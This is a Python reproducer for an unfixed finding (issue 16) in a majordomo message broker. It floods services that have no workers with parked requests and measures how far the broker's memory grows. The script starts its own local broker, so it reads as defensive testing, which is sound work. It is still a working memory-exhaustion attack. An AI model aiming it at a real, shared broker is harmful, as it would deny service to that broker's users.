#!/usr/bin/python3
"""Attack on the majordomo (issue 16): memory held by waiting requests.
A reproducer, not a ctest: it shows a finding not fixed yet.

usage: attack16_memory.py ZRELAY [SERVICES [PER_SERVICE [BODY_BYTES]]]

max_waiting bounds each service's queue, and at most 10,000 services
exist, but nothing bounds the requests waiting in all of them together:
one client with no worker anywhere can park SERVICES x max_waiting
requests (up to 10,000 x 10,000 with the defaults) for request_timeout.
This sends SERVICES x PER_SERVICE requests of BODY_BYTES to services
nobody serves and prints the broker's resident size before and after.
"""
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mdp_broker import Client, start_broker, wait_stat, zmq  # noqa


def rss_kb(pid):
    for line in open("/proc/%d/status" % pid):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


def main():
    zrelay = sys.argv[1]
    nsvc = int(sys.argv[2]) if len(sys.argv) > 2 else 20
    per = int(sys.argv[3]) if len(sys.argv) > 3 else 5000
    size = int(sys.argv[4]) if len(sys.argv) > 4 else 1024
    b = start_broker(zrelay, "--request-timeout", "120s")
    ctx = zmq.Context()
    c = Client(ctx, b.ep)
    c.s.sndhwm = 0
    rss0 = rss_kb(b.proc.pid)
    body = b"m" * size
    t = time.time()
    for i in range(per):
        for k in range(nsvc):
            c.s.send_multipart([b"", b"MDPC01", b"s%d" % k, body])
    n = nsvc * per
    wait_stat(b, "majordomo/requests/waiting", lambda v: v == n, "waiting")
    rss1 = rss_kb(b.proc.pid)
    print("%d requests of %d bytes waiting in %d services (%.1f s): broker "
          "RSS %d kB -> %d kB (+%d kB, %.0f bytes a request)" % (
              n, size, nsvc, time.time() - t, rss0, rss1, rss1 - rss0,
              (rss1 - rss0) * 1024.0 / n))
    c.close()
    b.proc.kill()
    b.proc.wait()
    ctx.term()


if __name__ == "__main__":
    main()
